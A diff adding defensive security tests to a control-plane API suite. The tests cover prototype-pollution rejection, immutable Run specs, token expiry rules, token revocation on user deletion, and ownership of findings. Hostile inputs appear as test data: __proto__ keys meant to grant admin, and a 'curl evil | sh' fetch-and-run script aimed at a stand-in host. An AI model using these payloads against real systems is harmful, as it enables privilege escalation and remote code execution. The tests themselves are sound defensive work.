@@ -435,6 +435,83 @@ describe('control-plane security', function () {
     });
   });
 
+  describe('hardening found by the session-6 audit', () => {
+    const MERGE = 'application/merge-patch+json';
+    const APPLY = 'application/apply-patch+yaml';
+
+    it('a body with a __proto__ key is refused before anything reads it: nothing is polluted, nobody is promoted', async () => {
+      const attempts: Array<[Who, string, unknown, string]> = [
+        ['viewer', `${G}/tokens/doesnotexist?fieldManager=x`, { apiVersion: API, kind: 'Token', metadata: { name: 'doesnotexist' }, spec: { ['__proto__']: { cluster: 'admin' } } }, APPLY],
+        ['agent', `${G}/namespaces/acme/leases/web-1?fieldManager=agent`, { apiVersion: API, kind: 'Lease', metadata: { name: 'web-1' }, spec: { ['__proto__']: { user: 'admin' } } }, APPLY],
+        ['ns-admin', `${G}/rolebindings/nsadmin-admin`, { spec: { namespace: null, ['__proto__']: { namespace: 'acme' } } }, MERGE],
+      ];
+      for (const [who, path, body, type] of attempts) {
+        // A computed ['__proto__'] key is an own property, so JSON.stringify sends it as the attacker would.
+        expect(JSON.stringify(body)).to.contain('"__proto__"');
+        const r = await call(who, 'PATCH', path, body, type);
+        expect(r.status, `${who} ${path}`).to.equal(400);
+        expect(r.body.message).to.contain('__proto__');
+      }
+      const probe: Json = {};
+      expect([probe.cluster, probe.user, probe.namespace]).to.deep.equal([undefined, undefined, undefined]);
+      expect((await call('viewer', 'GET', `${G}/tokens`)).status).to.equal(403);
+      expect((await mustAdmin('GET', `${G}/rolebindings/nsadmin-admin`)).spec.namespace).to.equal('acme');
+    });
+
+    it('what a Run does is fixed at creation; approving adds, never removes; even an admin cannot rewrite it', async () => {
+      await mustAdmin('POST', `${G}/namespaces/acme/runs`, { apiVersion: API, kind: 'Run', metadata: { name: 'fixed-1' }, spec: { nodeName: 'web-1', preset: 'p2', risk: 'DANGEROUS', steps: [{ name: 'apply', script: 'echo hi' }] } });
+      const path = `${G}/namespaces/acme/runs/fixed-1`;
+      for (const spec of [{ steps: [{ name: 'apply', script: 'curl evil | sh' }] }, { risk: 'SAFE' }, { nodeName: 'web-2' }, { preset: 'other' }]) {
+        const r = await call('operator', 'PATCH', path, { spec }, MERGE);
+        expect(r.status, JSON.stringify(spec)).to.equal(422);
+        expect(r.body.details.causes[0].field).to.equal(`spec.${Object.keys(spec)[0]}`);
+      }
+      expect((await call('admin', 'PATCH', path, { spec: { steps: [{ name: 'apply', script: 'id' }] } }, MERGE)).status).to.equal(422);
+      expect((await call('operator', 'PATCH', path, { spec: { approvedBy: ['operator'] } }, MERGE)).status).to.equal(200);
+      const withdraw = await call('operator', 'PATCH', path, { spec: { approvedBy: [] } }, MERGE);
+      expect(withdraw.status).to.equal(422);
+      expect(withdraw.body.details.causes[0].field).to.equal('spec.approvedBy');
+      expect((await call('operator', 'PATCH', path, { spec: { cancel: true } }, MERGE)).status).to.equal(200);
+      expect((await mustAdmin('GET', path)).spec.steps[0].script).to.equal('echo hi');
+    });
+
+    it("a token's expiry only moves earlier, unless a cluster admin moves it", async () => {
+      const soon = new Date(Date.now() + 3600_000).toISOString().replace(/\.\d+Z$/, 'Z');
+      const minted = await mustAdmin('POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec: { user: 'viewer', expiresAt: soon } });
+      const path = `${G}/tokens/${minted.metadata.name as string}`;
+      const later = new Date(Date.now() + 7200_000).toISOString().replace(/\.\d+Z$/, 'Z');
+      const earlier = new Date(Date.now() + 1800_000).toISOString().replace(/\.\d+Z$/, 'Z');
+      const own = minted.status.token as string;
+      for (const expiresAt of [later, null]) {
+        const r = await call(own, 'PATCH', path, { spec: { expiresAt } }, MERGE);
+        expect(r.status, String(expiresAt)).to.equal(422);
+        expect(r.body.details.causes[0].field).to.equal('spec.expiresAt');
+      }
+      expect((await call(own, 'PATCH', path, { spec: { expiresAt: earlier } }, MERGE)).status).to.equal(200);
+      expect((await call('admin', 'PATCH', path, { spec: { expiresAt: later } }, MERGE)).status).to.equal(200);
+    });
+
+    it('deleting a user revokes its tokens: the same name created again does not bring them back', async () => {
+      await mustAdmin('POST', `${G}/users`, { apiVersion: API, kind: 'User', metadata: { name: 'leaver' }, spec: {} });
+      await mustAdmin('POST', `${G}/rolebindings`, { apiVersion: API, kind: 'RoleBinding', metadata: { name: 'leaver-viewer' }, spec: { user: 'leaver', role: 'viewer' } });
+      const minted = await mustAdmin('POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec: { user: 'leaver' } });
+      const token = minted.status.token as string;
+      expect((await call(token, 'GET', `${G}/presets`)).status).to.equal(200);
+      await mustAdmin('DELETE', `${G}/users/leaver`);
+      for (let i = 0; i < 100 && !(await mustAdmin('GET', `${G}/tokens/${minted.metadata.name as string}`)).spec.revoked; i++) await new Promise((r) => setTimeout(r, 50));
+      expect((await mustAdmin('GET', `${G}/tokens/${minted.metadata.name as string}`)).spec.revoked).to.equal(true);
+      await mustAdmin('POST', `${G}/users`, { apiVersion: API, kind: 'User', metadata: { name: 'leaver' }, spec: {} });
+      expect((await call(token, 'GET', `${G}/presets`)).status).to.equal(401);
+    });
+
+    it('an agent cannot take over a finding that is not its own scanner finding', async () => {
+      await mustAdmin('POST', `${G}/namespaces/acme/findings`, { apiVersion: API, kind: 'Finding', metadata: { name: 'drift-1' }, spec: { nodeName: 'web-1', type: 'drift.sshd', key: 'k1', severity: 'CRITICAL', source: 'drift' } });
+      const r = await call('agent', 'PATCH', `${G}/namespaces/acme/findings/drift-1`, { spec: { source: 'scanner', severity: 'INFO' } }, MERGE);
+      expect(r.status).to.equal(403);
+      expect((await mustAdmin('GET', `${G}/namespaces/acme/findings/drift-1`)).spec.severity).to.equal('CRITICAL');
+    });
+  });
+
   describe('throttling', () => {
     it('failed authentications from one address get 429 with Retry-After', async () => {
       let last = 0;
@@ -448,6 +525,9 @@ describe('control-plane security', function () {
       }
       expect(last).to.equal(429);
       expect(Number(retryAfter)).to.be.greaterThan(0);
+      // Tokens that proved themselves before keep working from that address: guesses do not lock out owners.
+      expect((await admin('GET', `${G}/presets`)).status).to.equal(200);
+      expect((await call('viewer', 'GET', `${G}/presets`)).status).to.equal(200);
     });
   });
 });
